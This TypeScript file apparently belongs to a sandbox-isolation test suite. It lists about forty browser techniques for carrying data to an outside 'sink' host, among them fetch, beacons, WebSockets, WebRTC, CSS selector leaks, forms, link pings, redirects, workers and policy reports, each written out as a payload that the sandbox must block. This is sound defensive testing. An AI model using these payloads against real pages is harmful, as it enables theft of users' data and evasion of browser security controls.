import type { Attack } from "./Attack.ts"

/** Ways to carry words out of the prototype. The sink must hear nothing. */
export const leaks: ReadonlyArray<Attack> = [
  { name: "fetch", script: ({ sink }) => `await fetch("${sink}/?words",{mode:"no-cors"})` },
  {
    name: "XMLHttpRequest",
    script: ({ sink }) => `const x=new XMLHttpRequest();x.open("GET","${sink}/?words");x.send()`
  },
  { name: "a beacon", script: ({ sink }) => `navigator.sendBeacon("${sink}/?words","words")` },
  {
    name: "a request that outlives its page",
    script: ({ sink }) =>
      `addEventListener("pagehide",()=>fetch("${sink}/?words",{mode:"no-cors",keepalive:true}));if(sessionStorage.getItem("x")===null){sessionStorage.setItem("x","y");location.reload()}`
  },
  { name: "a WebSocket", script: ({ sink }) => `new WebSocket("${sink.replace("http", "ws")}/words")` },
  { name: "an EventSource", script: ({ sink }) => `new EventSource("${sink}/words")` },
  {
    name: "a peer connection",
    script: ({ stun }) =>
      `const c=new RTCPeerConnection({iceServers:[{urls:"stun:${stun}"}]});c.createDataChannel("x");
await c.setLocalDescription(await c.createOffer())`
  },
  { name: "an image", html: ({ sink }) => `<img src="${sink}/words.png" alt="">` },
  { name: "an image by srcset", html: ({ sink }) => `<img srcset="${sink}/words.png 1x" alt="">` },
  { name: "a video's poster", html: ({ sink }) => `<video poster="${sink}/words.png"></video>` },
  { name: "a sound", html: ({ sink }) => `<audio src="${sink}/words.mp3" autoplay></audio>` },
  {
    name: "a text track",
    html: ({ sink }) => `<video src="/a.webm" crossorigin><track default src="${sink}/words.vtt"></video>`,
    script: () => `document.querySelector("video").textTracks[0].mode="showing"`
  },
  {
    name: "a font",
    head: () => `<link rel="stylesheet" href="a.css">`,
    html: () => "<p>words</p>",
    files: ({ sink }) => ({ "a.css": `@font-face{font-family:f;src:url(${sink}/words.woff2)}p{font-family:f}` })
  },
  {
    name: "a style sheet that tells what is typed",
    head: () => `<link rel="stylesheet" href="a.css">`,
    html: () => `<input id="secret" value="words">`,
    files: ({ sink }) => ({ "a.css": `#secret[value^=w]{background:url(${sink}/w)}` })
  },
  {
    name: "an imported style sheet",
    head: () => `<link rel="stylesheet" href="a.css">`,
    files: ({ sink }) => ({ "a.css": `@import "${sink}/words.css";` })
  },
  { name: "a foreign style sheet", head: ({ sink }) => `<link rel="stylesheet" href="${sink}/words.css">` },
  { name: "a foreign script", head: ({ sink }) => `<script src="${sink}/words.js"></script>` },
  { name: "a remote module", script: ({ sink }) => `await import("${sink}/words.js")` },
  {
    name: "a module that imports a remote one",
    head: () => `<script type="module" src="m.js"></script>`,
    files: ({ sink }) => ({ "m.js": `import "${sink}/words.js"` })
  },
  { name: "a preloaded module", head: ({ sink }) => `<link rel="modulepreload" href="${sink}/words.js">` },
  { name: "a preload", head: ({ sink }) => `<link rel="preload" as="image" href="${sink}/words.png">` },
  { name: "a prefetch", head: ({ sink }) => `<link rel="prefetch" href="${sink}/words.html">` },
  { name: "a web manifest", head: ({ sink }) => `<link rel="manifest" href="${sink}/words.json">`, always: true },
  { name: "an icon", head: ({ sink }) => `<link rel="icon" href="${sink}/words.png">`, always: true },
  {
    name: "a connection opened in advance",
    head: ({ sink }) => `<link rel="preconnect" href="${sink}">`,
    always: true
  },
  { name: "a foreign frame", html: ({ sink }) => `<iframe src="${sink}/words"></iframe>` },
  { name: "an object", html: ({ sink }) => `<object data="${sink}/words.svg" type="image/svg+xml"></object>` },
  { name: "an embed", html: ({ sink }) => `<embed src="${sink}/words.svg" type="image/svg+xml">` },
  {
    name: "an image in a drawing",
    html: ({ sink }) => `<svg><image href="${sink}/words.png" width="9" height="9"/></svg>`
  },
  {
    name: "a form that gets",
    html: ({ sink }) => `<form id="f" action="${sink}/"><input name="q" value="words"></form>`,
    script: () => `document.getElementById("f").submit()`
  },
  {
    name: "a form that posts",
    html: ({ sink }) => `<form id="f" method="post" action="${sink}/"><input name="q" value="words"></form>`,
    script: () => `document.getElementById("f").submit()`
  },
  {
    name: "a button that sends its form elsewhere",
    html: ({ sink }) => `<form><button id="b" formaction="${sink}/" name="q" value="words">x</button></form>`,
    script: () => `document.getElementById("b").click()`
  },
  {
    name: "the ping of a link",
    html: ({ sink }) => `<a id="a" href="#x" ping="${sink}/words">x</a>`,
    script: () => `document.getElementById("a").click()`
  },
  { name: "going away", script: ({ sink }) => `location.href="${sink}/?words"` },
  {
    name: "going away in the portal's frame",
    met: "framed",
    script: ({ sink }) => `location.href="${sink}/?words"`,
    always: true
  },
  { name: "a refresh", head: ({ sink }) => `<meta http-equiv="refresh" content="0;url=${sink}/?words">` },
  {
    name: "a base that moves every address",
    head: ({ sink }) => `<base href="${sink}/">`,
    html: () => `<img src="words.png" alt="">`
  },
  {
    name: "a window opened by a click",
    met: "clicked",
    script: ({ sink }) => `addEventListener("click",()=>open("${sink}/?words"));`
  },
  {
    name: "a link to a new window",
    html: ({ sink }) => `<a id="a" target="_blank" href="${sink}/?words">x</a>`,
    met: "clicked",
    script: () => `addEventListener("click",({target})=>{if(target.id==="here")document.getElementById("a").click()});`
  },
  {
    name: "a worker that asks elsewhere",
    script: () => `new Worker("w.js")`,
    files: ({ sink }) => ({ "w.js": `fetch("${sink}/?words",{mode:"no-cors"});importScripts("${sink}/words.js")` })
  },
  {
    name: "a service worker that asks elsewhere",
    script: () => `await navigator.serviceWorker.register("sw.js")`,
    files: ({ sink }) => ({ "sw.js": `fetch("${sink}/?words",{mode:"no-cors"})` })
  },
  {
    name: "rules of speculation",
    script: ({ sink }) =>
      `const s=document.createElement("script");s.type="speculationrules";
s.textContent=JSON.stringify({prefetch:[{urls:["${sink}/words"],eagerness:"immediate"}]});document.head.append(s);
await new Promise((r)=>setTimeout(r,50))`
  },
  {
    name: "reports of its own policy",
    head: ({ sink }) =>
      `<meta http-equiv="content-security-policy" content="img-src 'none'; report-uri ${sink}/words">`,
    html: () => `<img src="a.png" alt="">`,
    always: true
  }
]
